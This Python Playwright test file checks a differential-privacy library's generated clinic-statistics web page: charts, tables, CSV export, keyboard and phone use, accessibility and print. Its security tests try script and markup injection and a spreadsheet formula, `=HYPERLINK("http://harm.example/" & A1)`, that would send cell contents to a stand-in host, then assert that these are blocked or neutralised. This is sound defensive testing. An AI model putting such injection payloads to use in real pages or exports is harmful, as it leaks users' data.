"""A page in a browser: every control, and each number on it against `release.by`."""

from __future__ import annotations

from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import TYPE_CHECKING
from urllib.request import urlopen

import numpy as np
import pyarrow as pa
import pytest

import hushtable as ht
from tests.browser.reader import Reader, numbers_of, written
from tests.pages.clinic import LABELS, PAYLOADS, REASONS, REGIONS

if TYPE_CHECKING:
    from playwright.sync_api import Browser

NAMES = {"day (month)": "month(day)", "age (steps of 20)": "20(age)"}
UNCLEAR = "cannot be told from 0"


@pytest.fixture(autouse=True)
def made(release: ht.Release) -> None:
    """The page is there."""


def test_every_attribute_shows_the_numbers_of_by(browser: Browser, folder: Path, release: ht.Release) -> None:
    with Reader(browser, folder / "clinic.html") as reader:
        offered = reader.options("first")
        assert offered == ["day", "day (month)", "region", "age", "age (steps of 20)", "reason"]
        for one in offered:
            reader.choose(first=one)
            assert reader.text("#picture-title") == f"Number of visits by {one}"
            answer = release.by(NAMES.get(one, one))
            shown = sorted(row[1:4] for row in reader.rows())
            assert shown == sorted(numbers_of(answer)), one
            note = answer.schema.metadata[b"note"].decode()
            assert reader.text("#note") == f"Intervals have 95 % confidence. {note}"


def test_every_pair_shows_the_numbers_of_by(browser: Browser, folder: Path, release: ht.Release) -> None:
    compared = 0
    with Reader(browser, folder / "clinic.html") as reader:
        for one in ("region", "reason", "age (steps of 20)"):
            reader.choose(first=one)
            for two in reader.options("second")[1:]:
                reader.choose(second=two)
                answer = release.by([NAMES.get(one, one), NAMES.get(two, two)])
                if len(answer) > 300:
                    continue
                assert sorted(row[2:5] for row in reader.rows()) == sorted(numbers_of(answer)), (one, two)
                compared += 1
    assert compared >= 6


def test_a_condition_is_answered_as_by_answers_it(
    browser: Browser, folder: Path, release: ht.Release
) -> None:
    with Reader(browser, folder / "clinic.html") as reader:
        reader.choose(first="reason", where="region", value="South")
        assert reader.text("#picture-title") == "Number of visits by reason, where region is South"
        answer = release.by("reason", where="region = 'South'")
        by_label = {row[0]: row[1:4] for row in reader.rows()}
        assert by_label == dict(zip(LABELS, numbers_of(answer), strict=True))
        reader.choose(where="no condition")
        assert reader.text("#picture-title") == "Number of visits by reason"
        assert not reader.page.is_visible("#value")


def test_groups_that_cannot_be_told_from_0_are_grey_and_said_so(
    browser: Browser, folder: Path, release: ht.Release
) -> None:
    answer = release.by("reason", where="region = 'Islands'").to_pylist()
    unclear = {label for label, row in zip(LABELS, answer, strict=True) if row["low"] <= 0 <= row["high"]}
    assert unclear, "next to nobody is on the islands"
    with Reader(browser, folder / "clinic.html") as reader:
        reader.choose(first="reason", where="region", value="Islands")
        assert {row[0] for row in reader.rows() if row[4] == UNCLEAR} == unclear
        names = reader.page.eval_on_selector_all(
            ".one.unclear .name", "all => all.map(each => each.textContent)"
        )
        assert set(names) == unclear
        grey, clear = (
            reader.page.eval_on_selector(each, "bar => getComputedStyle(bar).backgroundColor")
            for each in (".one.unclear .fill", ".legend .swatch")
        )
        assert grey == "rgb(180, 183, 178)"
        assert grey != clear


def test_pointing_at_a_bar_a_point_and_a_square_tells_its_interval(
    browser: Browser, folder: Path, release: ht.Release
) -> None:
    reasons, months = numbers_of(release.by("reason")), numbers_of(release.by("month(day)"))
    both = numbers_of(release.by(["region", "reason"]))
    with Reader(browser, folder / "clinic.html") as reader:
        reader.choose(first="reason")
        reader.page.hover(".one[data-at='1']")
        value, low, high = reasons[1]
        assert reader.text("#tip") == f"Injury\n{value} ({low} to {high})"
        reader.page.mouse.move(0, 0)
        assert not reader.page.is_visible("#tip")

        reader.choose(first="day (month)", picture="Line")
        box = reader.page.locator(".line")
        box.scroll_into_view_if_needed()
        frame = box.bounding_box()
        assert frame is not None
        reader.page.mouse.move(frame["x"] + frame["width"] - 30, frame["y"] + 60)
        value, low, high = months[-1]
        assert reader.text("#tip") == f"2025-12\n{value} ({low} to {high})"

        reader.choose(first="region", second="reason")
        reader.page.hover(".heat td[data-at='3']")
        value, low, high = both[3]
        assert reader.text("#tip") == f"North · Skin\n{value} ({low} to {high})"


def test_bars_stand_where_their_numbers_are(browser: Browser, folder: Path, release: ht.Release) -> None:
    answer = release.by("region").to_pylist()
    with Reader(browser, folder / "clinic.html") as reader:
        reader.choose(first="region")
        widths = {
            REGIONS[int(at)]: [float(each) for each in ends]
            for at, *ends in reader.page.eval_on_selector_all(
                ".one",
                """all => all.map(row => {
                    const track = row.querySelector(".track").getBoundingClientRect();
                    const range = row.querySelector(".range").getBoundingClientRect();
                    const fill = row.querySelector(".fill").getBoundingClientRect();
                    const zero = row.querySelector(".zero").getBoundingClientRect();
                    const share = (to) => (to - zero.left) / track.width;
                    return [row.dataset.at, share(fill.right), share(range.left), share(range.right)];
                })""",
            )
        }
        largest = max(row["high"] for row in answer)
        scale = max(ends[2] for ends in widths.values()) / largest
        for row in answer:
            filled, low, high = widths[row["region"]]
            assert filled == pytest.approx(row["estimate"] * scale, abs=0.01)
            assert low == pytest.approx(row["low"] * scale, abs=0.01)
            assert high == pytest.approx(row["high"] * scale, abs=0.01)


def test_values_are_chosen_by_ticks_and_ranges(browser: Browser, folder: Path) -> None:
    with Reader(browser, folder / "clinic.html") as reader:
        reader.choose(first="reason")
        reader.page.click("#picks summary")
        reader.page.click("#picks-body button:text-is('None')")
        assert reader.text("#picture-said") == "No group is chosen."
        assert reader.rows() == []
        reader.page.check("#picks-body label:has-text('Skin') input")
        reader.page.fill("#picks-body input[type=search]", "ey")
        reader.page.check("#picks-body label:has-text('Eyes') input")
        assert {row[0] for row in reader.rows()} == {"Skin", "Eyes"}
        assert reader.page.locator(".one").count() == 2
        assert reader.text("#picked") == "(chosen: 2 of 8 of reason)"
        reader.page.click("#picks-body button:text-is('All')")
        assert len(reader.rows()) == 8

        reader.choose(first="day (month)")
        reader.page.select_option("#picks-body select >> nth=0", label="2025-03")
        reader.page.select_option("#picks-body select >> nth=1", label="2025-05")
        assert [row[0] for row in reader.rows()] == ["2025-03", "2025-04", "2025-05"]
        reader.page.select_option("#picks-body select >> nth=0", label="2025-08")
        assert [row[0] for row in reader.rows()] == ["2025-08"]


def test_the_table_is_sorted_searched_and_shown_in_parts(
    browser: Browser, folder: Path, release: ht.Release
) -> None:
    with Reader(browser, folder / "clinic.html") as reader:
        reader.choose(first="reason")
        assert reader.page.get_attribute("#table th:nth-child(2)", "aria-sort") == "descending"
        reader.page.click("#table th button:text-is('reason')")
        assert [row[0] for row in reader.rows()] == sorted(LABELS)
        reader.page.click("#table th button:text-is('reason')")
        assert [row[0] for row in reader.rows()] == sorted(LABELS, reverse=True)
        assert reader.page.get_attribute("#table th:nth-child(1)", "aria-sort") == "descending"
        for column, name in enumerate(("Estimate", "From", "To"), start=1):
            field = ("estimate", "low", "high")[column - 1]
            reader.page.click(f"#table th button:text-is('{name}')")
            expected = sorted(release.by("reason").column(field).to_pylist(), reverse=True)
            assert [row[column] for row in reader.rows()] == [
                numbers.replace("-", "\N{MINUS SIGN}") for numbers in (f"{each:,.0f}" for each in expected)
            ]
        reader.page.fill("#search", "e")
        assert {row[0] for row in reader.rows()} == {each for each in LABELS if "e" in each.lower()}
        reader.page.fill("#search", "no such group")
        assert reader.rows() == []
        assert reader.text("#table-said").startswith("0 of 8 groups")
        reader.page.fill("#search", "")

        reader.choose(first="day")
        assert len(reader.rows(more=False)) == 25
        assert reader.text("#more") == "Show 340 more"
        assert len(reader.rows()) == 365


def test_csv_is_the_table_that_is_shown(browser: Browser, folder: Path, release: ht.Release) -> None:
    with Reader(browser, folder / "clinic.html") as reader:
        reader.choose(first="reason", second="region")
        heading, *rows = reader.download()
        assert heading == ["reason", "region", "estimate", "low", "high"]
        assert [row[:2] for row in rows] == [row[:2] for row in reader.rows()]
        answer = {(row["reason"], row["region"]): row for row in release.by(["reason", "region"]).to_pylist()}
        for reason, region, *numbers in rows:
            row = answer[REASONS[LABELS.index(reason)], region]
            assert numbers == [str(int(f"{row[each]:.0f}")) for each in ("estimate", "low", "high")]
        reader.page.fill("#search", "heart")
        assert len(reader.download()) == 1 + len(REGIONS)


def test_the_keyboard_is_enough(browser: Browser, folder: Path, release: ht.Release) -> None:
    def reach(selector: str) -> None:
        for _ in range(80):
            keys.press("Tab")
            if reader.page.evaluate("selector => document.activeElement.matches(selector)", selector):
                return
        raise AssertionError(f"the tabulator key does not reach {selector}")

    with Reader(browser, folder / "clinic.html") as reader:
        keys = reader.page.keyboard
        keys.press("Tab")
        assert reader.page.evaluate("document.activeElement.textContent") == "Skip to the numbers"
        keys.press("Enter")
        reach("#first")
        keys.type("reas")
        assert reader.text("#picture-title") == "Number of visits by reason"
        reach("#picks summary")
        keys.press("Enter")
        reach("#picks-body input[type=checkbox]")
        keys.press("Space")
        assert len(reader.rows()) == 7
        keys.press("Space")
        reach(".one")
        first = reader.text("#tip")
        keys.press("ArrowDown")
        assert reader.text("#tip") != first
        keys.press("End")
        assert reader.text("#tip").startswith(reader.page.inner_text(".one:last-child .name"))
        keys.press("Escape")
        assert not reader.page.is_visible("#tip")
        reach("#table th:nth-child(1) button")
        keys.press("Enter")
        assert [row[0] for row in reader.rows()] == sorted(LABELS)
        assert reader.page.evaluate("document.activeElement.textContent") == "reason", "focus stays"

        reader.choose(first="day (month)", picture="Line")
        reader.page.focus("#picture")
        reach(".line")
        keys.press("Home")
        for _ in range(2):
            keys.press("ArrowRight")
        value, low, high = numbers_of(release.by("month(day)"))[2]
        assert reader.text("#tip") == f"2025-03\n{value} ({low} to {high})"
        assert reader.page.get_attribute(".line", "aria-valuetext") == f"2025-03: {value}, {low} to {high}"

        reader.choose(first="region", second="reason")
        reader.page.focus("#picture")
        reach(".heat td")
        keys.press("ArrowRight")
        keys.press("ArrowDown")
        assert reader.text("#tip").startswith("East · Injury")


def test_a_phone_is_wide_enough(browser: Browser, folder: Path) -> None:
    with Reader(browser, folder / "clinic.html", width=390, height=844) as reader:
        for choices in ({"first": "reason"}, {"first": "day"}, {"first": "region", "second": "day"}):
            reader.choose(**choices)
            assert reader.page.evaluate("document.documentElement.scrollWidth") <= 390
            for control in ("#first", "#second", "#where", "#search", "#csv"):
                box = reader.page.locator(control).bounding_box()
                assert box is not None
                assert box["x"] >= 0
                assert box["x"] + box["width"] <= 390
                assert box["height"] >= 40, "wide enough for a finger"


def test_axe_finds_nothing(browser: Browser, folder: Path, axe: str) -> None:
    """By all rules; in the dark and on a phone, where the same elements stand, by those that could differ."""
    with Reader(browser, folder / "clinic.html") as reader:
        reader.page.click("#picks summary")
        for choices in (
            {"first": "reason"},
            {"first": "day (month)", "picture": "Line"},
            {"first": "region", "second": "reason"},
        ):
            reader.look()
            reader.choose(**choices)
            assert reader.violations(axe) == [], choices
            reader.look(dark=True)
            assert reader.violations(axe, rules=["color-contrast"]) == [], choices
            reader.look(width=390)
            rules = ["target-size", "scrollable-region-focusable"]
            assert reader.violations(axe, rules=rules) == [], choices


def test_axe_would_find_something(browser: Browser, folder: Path, axe: str) -> None:
    with Reader(browser, folder / "clinic.html") as reader:
        reader.page.evaluate(
            "document.querySelector('#search').parentElement.replaceWith(document.querySelector('#search'))"
        )
        assert any("label" in each for each in reader.violations(axe, rules=["label"]))


def test_dark_is_dark(browser: Browser, folder: Path) -> None:
    lightness = {}
    with Reader(browser, folder / "clinic.html") as reader:
        for dark in (False, True):
            reader.look(dark=dark)
            colour = reader.page.eval_on_selector("body", "body => getComputedStyle(body).backgroundColor")
            lightness[dark] = sum(map(int, colour[4:-1].split(",")))
    assert lightness[True] < 120
    assert lightness[False] > 600


def test_on_paper_there_are_no_controls_and_all_is_open(browser: Browser, folder: Path) -> None:
    with Reader(browser, folder / "clinic.html") as reader:
        reader.choose(first="region", second="reason")
        reader.page.emulate_media(media="print")
        for control in ("#choices", "#csv", "nav", "#search"):
            assert not reader.page.is_visible(control)
        assert reader.page.is_visible(".heat")
        assert reader.page.pdf()[:5] == b"%PDF-"
        assert reader.page.locator("#entries details:not([open])").count() == 0


def test_nothing_leaves_the_page_even_if_a_script_tries(browser: Browser, folder: Path) -> None:
    reached: list[str] = []

    class Listener(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            reached.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        def log_message(self, format: str, *arguments: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    Thread(target=server.serve_forever, daemon=True).start()
    address = f"http://127.0.0.1:{server.server_port}/"
    urlopen(f"{address}heard").close()
    reader = Reader(browser, folder / "clinic.html")
    tried = reader.page.evaluate(
        """async (address) => {
            const failed = [];
            await fetch(address).catch(() => failed.push("fetch"));
            await new Promise((done) => {
                const image = new Image();
                image.onerror = () => { failed.push("image"); done(); };
                image.src = address + "a.png";
            });
            try { document.body.innerHTML = "<b>markup</b>"; } catch { failed.push("markup"); }
            const script = document.createElement("script");
            try {
                script.textContent = "window.harmed = 1";
                document.body.append(script);
            } catch { failed.push("script"); }
            return [...failed, window.harmed === undefined];
        }""",
        address,
    )
    server.shutdown()
    server.server_close()
    assert tried == ["fetch", "image", "markup", "script", True]
    assert reached == ["/heard"]


def test_a_harmful_release_is_text_and_nothing_else(browser: Browser, folder: Path, harm: ht.Release) -> None:
    with Reader(browser, folder / "harm.html") as reader:
        assert reader.page.evaluate("window.harmed") is None
        assert reader.text("h1").startswith(PAYLOADS[0])
        assert reader.page.title().startswith(PAYLOADS[0])
        assert reader.text("#guarantee-short") == "Protected by pure differential privacy, epsilon = 8"
        assert reader.text("#guarantee") == harm.guarantee
        assert reader.options("first") == [PAYLOADS[0], PAYLOADS[1]]
        assert {row[0] for row in reader.rows()} == {f"{each} label" for each in PAYLOADS}
        reader.choose(second=PAYLOADS[1])
        reader.page.hover(".heat td[data-at='0']")
        assert reader.text("#tip").startswith(f"{PAYLOADS[0]} label · <b>")
        reader.page.click("#picks summary")
        for summary in reader.page.locator("#entries summary").all():
            summary.click()
        assert reader.page.locator("b, img, svg").count() == reader.page.locator("#tip b, .side b").count()
        cells = [row[0] for row in reader.download()]
        assert '\'=HYPERLINK("http://harm.example/" & A1) label' in cells, "a spreadsheet runs no formula"
        assert not any(cell.startswith("=") for cell in cells)
        assert reader.page.evaluate("window.harmed") is None


def test_a_release_of_many_rows_is_small_and_quick(browser: Browser, folder: Path) -> None:
    rng = np.random.default_rng(7)
    domain = ht.Domain(
        home=ht.categories([f"zone {each:03}" for each in range(240)]),
        work=ht.integers(0, 239),
        week=ht.times("2025-01-06", "2025-07-07", every="7 days"),
        title="Many rows",
    )
    homes = rng.integers(0, 240, 400_000)
    rows = pa.table(
        {
            "home": np.array([f"zone {each:03}" for each in range(240)])[homes],
            "work": (homes + rng.geometric(0.15, homes.size)) % 240,
            "week": np.datetime64("2025-01-06") + rng.integers(0, 182, homes.size),
        }
    )
    made = ht.publish(
        rows, domain=domain, epsilon=4, size=100_000, output=folder / "many.parquet", ledger=False
    )
    assert len(made) > 80_000
    made.page(folder / "many.html")
    size = (folder / "many.html").stat().st_size
    assert size < 5_000_000
    with Reader(browser, folder / "many.html") as reader:
        paint = reader.page.evaluate(
            """() => new Promise((done) => new PerformanceObserver((list) => {
                for (const each of list.getEntriesByName("first-contentful-paint")) done(each.startTime);
            }).observe({ type: "paint", buffered: true }))"""
        )
        print(f"{len(made):,} rows: a page of {size / 1e6:.1f} MB, painted after {paint:.0f} ms")
        assert paint < 1_000
        reader.choose(first="home")
        assert [reader.page.locator(".one").count(), reader.page.locator(".one.rest").count()] == [41, 1]
        answer = made.others("home", top=40)
        value, low, high = (written(each) for each in (answer.value, answer.low, answer.high))
        said = f"is all other groups together: {value} ({low} to {high}). This interval holds"
        assert said in reader.text("#picture-said")
        reader.page.hover(".one.rest")
        assert reader.text("#tip") == f"All others together\n{value} ({low} to {high})"
        reader.choose(where="week", value="2025-01-06")
        assert reader.page.locator(".one.rest").count() == 0, "of a condition, nothing was stored"
        reader.choose(first="home", second="work")
        assert "with the largest groups; the other 200 are in the table" in reader.text("#picture-said")
        assert reader.page.locator(".heat tbody tr").count() <= 40
